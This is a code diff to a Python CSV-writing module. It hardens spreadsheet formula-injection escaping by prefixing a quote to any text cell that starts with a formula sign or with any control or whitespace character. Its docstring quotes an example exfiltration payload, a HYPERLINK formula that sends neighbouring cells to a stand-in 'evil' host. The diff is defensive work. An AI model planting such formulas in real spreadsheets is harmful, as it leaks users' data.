@@ -7,17 +7,21 @@ spreadsheet (:func:`csv_safe`). Doing both in one place means no command can for
 
 Spreadsheet formula injection: Excel, LibreOffice and Google Sheets run a cell that begins with
 ``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK("http://evil?d="&A1,"open")`` sends the
-neighbouring cells away when clicked), and tab or carriage return can smuggle one in. A
-``case_ref``, a referral source or a kept input column comes from outside, so, following OWASP's
-guidance, every *text* cell (and column name) that begins with one of those characters is
-written with a single quote before it (``'=HYPERLINK(...)``), which spreadsheets show as text.
+neighbouring cells away when clicked), and leading whitespace or control characters that a
+spreadsheet strips or skips before deciding can smuggle one in (OWASP names tab, carriage
+return and line feed; ``"\n=1+1"`` was once written unchanged; ASVS adds NUL). A ``case_ref``,
+a referral source or a kept input column comes from outside, so every *text* cell (and column
+name) that begins with one of :data:`FORMULA_START` — a formula sign, or any control (``Cc``)
+or whitespace character at all, ordinary space included — is written with a single quote
+before it (``'=HYPERLINK(...)``), which spreadsheets show as text. One rule, wider than the
+known attacks: a cell that merely starts with a space gets a quote too (safe over pretty).
 Numeric, boolean and date columns are written as they are: a negative number stays a number.
 """
 
 from __future__ import annotations
 
 import contextlib
-import re
+import unicodedata
 from collections.abc import Iterable
 from pathlib import Path
 from typing import Any
@@ -29,16 +33,22 @@ from rhrt.files import AtomicOutput, compression_of
 
 __all__ = ["FORMULA_START", "Writer", "csv_safe", "csv_safe_text", "write_frames"]
 
-FORMULA_START = "=+-@\t\r"
-"""Characters that make a spreadsheet read a cell as a formula when it begins with one."""
+FORMULA_START = "=+-@" + "".join(
+    chr(code) for code in range(0x3001)  # the last control is U+009F, the last space U+3000
+    if unicodedata.category(chr(code)) == "Cc" or chr(code).isspace()
+)
+"""Characters a cell may not begin with: the formula signs, and every control and whitespace
+character (tab, CR, LF, NUL, space, no-break space, U+2028…), which spreadsheets strip or skip
+before looking for a formula sign."""
 
-_PATTERN = "^[" + re.escape(FORMULA_START) + "]"
-_START = re.compile(_PATTERN)
+_STARTS = frozenset(FORMULA_START)
+# RE2 (pyarrow) syntax: ``\x{hhhh}`` for each character, so none is written raw.
+_PATTERN = "^[" + "".join(f"\\x{{{ord(ch):x}}}" for ch in FORMULA_START) + "]"
 
 
 def csv_safe_text(text: str) -> str:
     """One text cell (or column name) as :func:`csv_safe` writes it."""
-    return "'" + text if _START.match(text) else text
+    return "'" + text if text and text[0] in _STARTS else text
 
 
 def _texty(typ: pa.DataType) -> bool:
